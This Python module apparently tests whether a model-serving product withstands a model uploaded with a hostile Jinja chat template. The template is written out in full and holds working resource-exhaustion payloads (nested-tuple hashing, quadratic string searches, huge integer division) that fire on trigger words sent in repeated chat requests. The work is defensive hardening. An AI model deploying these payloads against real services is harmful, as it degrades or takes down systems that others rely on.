"""A root whose chat template does harm, and chats that make it do so."""

import time
from collections import Counter
from contextlib import suppress
from pathlib import Path
from typing import Any, Final

import httpx
import torch
from safetensors.torch import save

from benchmarks.product.hostile.bodies import archive, repeated
from benchmarks.product.hostile.target import Target
from tests.unit.tiny_decoder import HIDDEN, tiny_decoder_folder

ROOT_NAME, POSITIONS, LAYERS = "hostile-writer", 32768, 3
READY_WITHIN_S, POLL_S, AT_ONCE = 90.0, 0.3, 2
QUERY: Final = "base_model.model.model.layers.2.self_attn.q_proj"
LORA: Final[dict[str, Any]] = {
    "peft_type": "LORA",
    "task_type": "CAUSAL_LM",
    "r": 4,
    "lora_alpha": 8,
    "bias": "none",
    "target_modules": ["q_proj"],
}
NEST: Final = "{% for _ in range(27) %}{% set ns.t = (ns.t, ns.t) %}{% endfor %}"
HARMS: Final = {
    "hash": "{% set ns = namespace(t=(1,)) %}" + NEST + "{{ {ns.t: 1} | length }}",
    "subscript": "{% set ns = namespace(t=(1,)) %}" + NEST + "{{ {}[ns.t] }}",
    "rfind": "{% set s = last * 120000 %}{{ s.rfind(last ~ 'b' ~ s[:60000]) }}",
    "rsplit": "{% set s = last * 120000 %}{{ s.rsplit(last ~ 'b' ~ s[:60000]) | length }}",
    "rpartition": "{% set s = last * 120000 %}{{ s.rpartition(last ~ 'b' ~ s[:60000]) | length }}",
    "divide": "{{ ((last * 400000) | int(0, 16) // (last * 200000) | int(1, 16)) is divisibleby(7) }}",
    "changed": "{% for _ in range(2) %}{% set ns = namespace(t=(1,)) %}" + NEST + "{{ loop.changed(ns.t) }}"
    "{% endfor %}",
}
"""What a template can do that costs far more than its length, by the word that asks for it. Without one of
these words the template is harmless, so that no trial sees it. Each takes seconds and comes to an end, so
that the run goes on. ``last`` is the last character of the message."""
TEMPLATE: Final = (
    "{% set text = messages[-1].content %}{% set last = text[-1:] %}"
    + "".join(
        "{% if text.startswith('" + name + "') %}" + harm + "{% endif %}" for name, harm in HARMS.items()
    )
    + "{% for message in messages %}{{ message.role }}: {{ message.content }}\n{% endfor %}"
)


def hostile_templates(target: Target, until: float) -> Counter[str]:
    """Chats that make the template of their root work hard. Without such a root, all were refused."""
    if not target.templated:
        return Counter({"refused": 1})
    writer, harms = target.writing(), list(HARMS)
    with writer.http() as http:

        def send(number: int) -> str:
            said = [{"role": "user", "content": f"{harms[number % len(harms)]} {target.words} f"}]
            body = {"model": target.templated, "messages": said, "max_tokens": 1}
            return str(http.post("/v1/chat/completions", json=body).status_code)

        return repeated(send, until, AT_ONCE)


def templated_model(admin: httpx.Client, writer: httpx.Client, folder: Path, name: str) -> str:
    """The name of a new model of the writer whose root has the template, or "" if the product refuses it.
    Raises httpx.HTTPError."""
    tiny_decoder_folder(folder, max_position_embeddings=POSITIONS, num_hidden_layers=LAYERS)
    (folder / "chat_template.jinja").write_text(TEMPLATE)
    made = admin.post(
        "/api/v1/platform/roots",
        json={"name": ROOT_NAME, "kind": "decoder", "source": str(folder), "lower_layers": 1},
    )
    if made.is_error:
        return ""
    root, latest = made.json(), time.monotonic() + READY_WITHIN_S
    while root["state"] not in ("ready", "failed") and time.monotonic() < latest:
        time.sleep(POLL_S)
        root = writer.get(f"/api/v1/versions/{root['id']}").json()
    if root["state"] != "ready":
        return ""
    made = writer.post(
        "/api/v1/import/adapter",
        data={"parent": str(root["id"]), "name": name, "task": "chat"},
        files={"archive": ("a.zip", archive(LORA, save(_lora())), "application/zip")},
    )
    made.raise_for_status()
    with suppress(httpx.TimeoutException):
        _wait_until_answered(writer, name, latest)
    return name


def _lora() -> dict[str, torch.Tensor]:
    return {
        f"{QUERY}.lora_A.weight": torch.zeros(4, HIDDEN),
        f"{QUERY}.lora_B.weight": torch.zeros(HIDDEN, 4),
    }


def _wait_until_answered(writer: httpx.Client, name: str, latest: float) -> None:
    body = {"model": name, "messages": [{"role": "user", "content": "a text"}], "max_tokens": 1}
    while writer.post("/v1/chat/completions", json=body).is_error and time.monotonic() < latest:
        time.sleep(POLL_S)
